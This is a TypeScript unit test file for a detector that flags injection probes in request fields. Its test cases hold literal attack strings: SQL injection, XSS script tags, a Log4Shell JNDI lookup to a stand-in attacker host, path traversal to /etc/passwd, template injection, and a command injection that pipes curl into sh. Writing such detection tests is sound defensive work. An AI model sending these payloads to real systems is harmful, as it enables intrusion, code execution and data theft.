import { describe, expect, it } from 'vitest';
import { injectionProbes } from '../../../shared/platform/http/injection';

describe('injection probe detection', () => {
  it.each([
    ["name' OR '1'='1", ['sql']],
    ['x; DROP TABLE users', ['sql']],
    ['1 UNION SELECT password FROM users', ['sql']],
    ['<script>alert(1)</script>', ['script']],
    ['<img src=x onerror=alert(1)>', ['script']],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal Log4Shell probe text is the input.
    ['${jndi:ldap://attacker.example/a}', ['jndi']],
    ['../../../../etc/passwd', ['traversal']],
    ['{{constructor.constructor("return process")()}}', ['template']],
    ['8.8.8.8; curl http://x | sh', ['command']],
  ])('flags %s', (input, kinds) => {
    expect(injectionProbes({ field: input })).toEqual(kinds);
  });

  it('leaves ordinary analyst input alone', () => {
    const benign = {
      tenantName: "O'Brien & Sons SOC",
      indicators: ['185.220.101.34', 'hxxps://evil[.]example/login', 'CVE-2021-44228'],
      note: 'Seen in logs between 10:00 and 11:00; user said "it was fine".',
    };

    expect(injectionProbes(benign)).toEqual([]);
  });

  it('finds probes nested in arrays and object keys, and bounds the walk', () => {
    const nested = { a: [{ b: { "' or 1=1": 'x' } }] };
    let deep: unknown = '<script>';
    for (let i = 0; i < 20; i += 1) deep = { deeper: deep };

    expect(injectionProbes(nested)).toEqual(['sql']);
    expect(injectionProbes(deep)).toEqual([]);
  });
});
